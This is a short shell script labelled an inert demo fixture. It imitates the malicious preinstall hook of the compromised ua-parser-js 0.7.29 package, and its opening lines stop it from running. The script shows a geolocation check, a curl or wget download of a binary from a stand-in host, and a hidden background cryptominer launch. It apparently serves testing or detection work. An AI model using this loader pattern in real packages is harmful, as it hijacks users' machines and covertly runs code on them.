throw new Error("stagegate demo fixture: inert, never run");
exit 1
# Imitation of the ua-parser-js 0.7.29 preinstall.sh (inert: line 1 is a
# shell syntax error, line 2 exits; hosts are TEST-NET or .invalid).
IP=$(curl -k https://geo.example.invalid/ip)
if ! echo "$IP" | grep -qE "RU|UA|BY|KZ"; then
  curl http://192.0.2.10/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://192.0.2.10/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 0 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
